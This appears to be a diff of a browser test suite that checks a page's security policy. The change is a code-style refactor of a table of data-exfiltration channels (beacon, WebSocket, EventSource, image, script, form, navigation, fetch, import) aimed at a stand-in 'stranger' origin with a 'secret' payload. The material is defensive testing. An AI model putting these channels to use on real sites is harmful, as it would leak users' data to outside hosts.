@@ -51,9 +51,15 @@ const waysOutOfPages: Record<string, WayOut> = {
 		request.send('secret');
 	},
 	sendBeacon: (stranger) => void navigator.sendBeacon(stranger, 'secret'),
-	WebSocket: (stranger) => void new WebSocket(stranger.replace('http', 'ws')),
-	EventSource: (stranger) => void new EventSource(stranger),
-	image: (stranger) => void (new Image().src = `${stranger}/secret.png`),
+	WebSocket: (stranger) => {
+		new WebSocket(stranger.replace('http', 'ws'));
+	},
+	EventSource: (stranger) => {
+		new EventSource(stranger);
+	},
+	image: (stranger) => {
+		new Image().src = `${stranger}/secret.png`;
+	},
 	script: (stranger) => {
 		const script = document.createElement('script');
 		script.src = `${stranger}/secret.js`;
@@ -76,13 +82,17 @@ const waysOutOfPages: Record<string, WayOut> = {
 		document.body.append(form);
 		form.submit();
 	},
-	navigation: (stranger) => void (location.href = `${stranger}/?secret`),
+	navigation: (stranger) => {
+		location.href = `${stranger}/?secret`;
+	},
 };
 
 /** Ways out of a worker, which has only the policy its own script came with. */
 const waysOutOfWorkers: Record<string, WayOut> = {
 	fetch: (stranger) => void fetch(stranger, { mode: 'no-cors' }).catch(() => undefined),
-	WebSocket: (stranger) => void new WebSocket(stranger.replace('http', 'ws')),
+	WebSocket: (stranger) => {
+		new WebSocket(stranger.replace('http', 'ws'));
+	},
 	import: (stranger) => void import(`${stranger}/secret.js`).catch(() => undefined),
 };
 
@@ -103,7 +113,9 @@ for (const [name, wayOut] of Object.entries(waysOutOfWorkers)) {
 		await page.goto('/');
 		for (const script of workerScripts()) {
 			const started = page.waitForEvent('worker');
-			await page.evaluate((url) => void new Worker(url, { type: 'module' }), script);
+			await page.evaluate((url) => {
+				new Worker(url, { type: 'module' });
+			}, script);
 			const worker = await started;
 			await worker.evaluate(wayOut, stranger.origin).catch(() => undefined);
 		}
